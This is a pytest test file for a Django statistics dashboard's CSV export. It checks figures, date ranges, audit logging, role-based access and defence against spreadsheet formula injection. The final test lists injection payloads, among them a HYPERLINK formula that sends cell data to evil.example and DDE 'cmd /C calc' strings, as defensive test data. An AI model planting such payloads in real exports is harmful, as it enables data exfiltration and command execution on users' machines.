"""CSV export of the staff statistics dashboards, for a chosen or custom period."""

from __future__ import annotations

import csv
import datetime
import html
import io
import re

import pytest
from django.utils import timezone

from forestall.audit.models import AuditEntry
from forestall.stats import actions
from forestall.stats.events import Event

pytestmark = pytest.mark.django_db


def rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    body = response.content.decode()
    assert body.startswith("\ufeff")  # the byte order mark: Excel reads the file as UTF-8
    return list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"))))


def cell(data, table: str, row: str, column: str) -> str:
    [found] = [
        r["value"]
        for r in data
        if r["table"].startswith(table) and r["row"] == row and r["column"] == column
    ]
    return found


def test_the_csv_has_the_numbers_the_page_shows_unsuppressed_like_the_page(
    sign_in, analyst, centre_a
):
    day = timezone.localdate() - datetime.timedelta(days=3)
    actions.record(Event.THERAPY_COMPLETED, centre=centre_a, day=day, count=2)
    client = sign_in(analyst)
    page = client.get(f"/staff/statistics/centres/{centre_a.pk}/").content.decode()
    assert re.search(r"Completed therapy</th><td class=\"number\">2</td>", page)
    assert f"/staff/statistics/centres/{centre_a.pk}/csv/" in page
    data = rows(client.get(f"/staff/statistics/centres/{centre_a.pk}/csv/"))
    assert cell(data, "The funnel", "Completed therapy", "Number") == "2"
    assert {r["table"] for r in data} >= {
        "The funnel: how many reached each step",
        "Protective actions agreed and taken",
    }


def test_a_custom_date_range_selects_the_days_counted(sign_in, analyst, centre_a):
    actions.record(
        Event.THERAPY_COMPLETED, centre=centre_a, day=datetime.date(2025, 2, 10), count=3
    )
    actions.record(
        Event.THERAPY_COMPLETED, centre=centre_a, day=datetime.date(2025, 4, 10), count=4
    )
    client = sign_in(analyst)
    url = "/staff/statistics/csv/?start=2025-02-01&end=2025-02-28"
    data = rows(client.get(url))
    assert cell(data, "The funnel", "Completed therapy", "Number") == "3"
    assert {(r["period_start"], r["period_end"]) for r in data} == {("2025-02-01", "2025-02-28")}
    page = client.get("/staff/statistics/?start=2025-02-01&end=2025-04-30").content.decode()
    assert re.search(r"Completed therapy</th><td class=\"number\">7</td>", page)
    assert "csv/?start=2025-02-01&amp;end=2025-04-30" in page


@pytest.mark.parametrize(
    "query",
    [
        "start=2025-02-01",
        "start=2025-03-01&end=2025-02-01",
        "start=2010-01-01&end=2025-01-01",
        "start=yesterday&end=2025-01-01",
        "months=7",
        "start=0001-01-01&end=0001-01-05",
        "start=9999-12-01&end=9999-12-31",
    ],
)
def test_a_bad_period_is_a_clear_400(sign_in, analyst, query):
    client = sign_in(analyst)
    for url in ("/staff/statistics/", "/staff/statistics/csv/"):
        response = client.get(f"{url}?{query}")
        assert response.status_code == 400
        assert b'class="error"' in response.content
    assert not AuditEntry.objects.filter(action="statistics.export").exists()


def test_each_csv_download_is_audited(sign_in, network_admin):
    sign_in(network_admin).get("/staff/statistics/csv/?months=24")
    entry = AuditEntry.objects.get(action="statistics.export")
    assert entry.actor_username == network_admin.username


def test_a_centre_manager_gets_their_centre_and_404_for_another(
    sign_in, manager_a, centre_a, centre_c
):
    client = sign_in(manager_a)
    assert client.get(f"/staff/statistics/centres/{centre_a.pk}/csv/").status_code == 200
    assert client.get(f"/staff/statistics/centres/{centre_c.pk}/csv/").status_code == 404
    assert client.get(f"/staff/statistics/regions/{centre_c.region_id}/csv/").status_code == 404


@pytest.mark.parametrize("persona", ["clinician_a", "counsellor_a", "outsider"])
def test_everyone_else_gets_404(request, sign_in, persona, centre_a):
    client = sign_in(request.getfixturevalue(persona))
    assert client.get("/staff/statistics/csv/").status_code == 404
    assert client.get(f"/staff/statistics/centres/{centre_a.pk}/csv/").status_code == 404


@pytest.mark.parametrize("scope", ["network", "region", "centre"])
def test_every_table_the_dashboard_shows_is_in_its_csv(sign_in, network_admin, centre_a, scope):
    path = {
        "network": "/staff/statistics/",
        "region": f"/staff/statistics/regions/{centre_a.region_id}/",
        "centre": f"/staff/statistics/centres/{centre_a.pk}/",
    }[scope]
    client = sign_in(network_admin)
    page = client.get(f"{path}?start=2025-01-01&end=2025-06-30")
    assert page.status_code == 200
    # Every table with figures (an empty one has no number cells).
    shown = {
        html.unescape(caption)
        for caption, body in re.findall(
            r"<caption>(.*?)</caption>.*?<tbody>(.*?)</tbody>", page.content.decode(), re.S
        )
        if '<td class="number">' in body
    }
    assert len(shown) > 5
    data = rows(client.get(f"{path}csv/?start=2025-01-01&end=2025-06-30"))
    assert {r["table"] for r in data} == shown
    if scope == "network":
        assert "Self-help: modules started and completed" in shown


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A2,"Berlin")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def test_names_that_a_spreadsheet_would_run_are_written_as_text(sign_in, analyst):
    """Attack: a centre or region named as a formula runs in the analyst's spreadsheet."""
    from tests.factories import make_centre, make_region

    day = timezone.localdate() - datetime.timedelta(days=3)
    for number, name in enumerate(FORMULAS):
        centre = make_centre(name, region=make_region("\t" + name))
        actions.record(Event.CONTACT, centre=centre, day=day, count=number + 1)
        actions.record(Event.CASE_OPENED, centre=centre, day=day, count=number + 1)
    response = sign_in(analyst).get("/staff/statistics/csv/")
    data = rows(response)
    cells = [value for row in data for value in row.values()]
    for name in FORMULAS:
        assert "'" + name in cells
        assert "'\t" + name in cells
    number = re.compile(r"[+-]?\d+(\.\d+)?")
    dangerous = [
        value
        for value in cells
        if value[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.fullmatch(value)
    ]
    assert dangerous == []
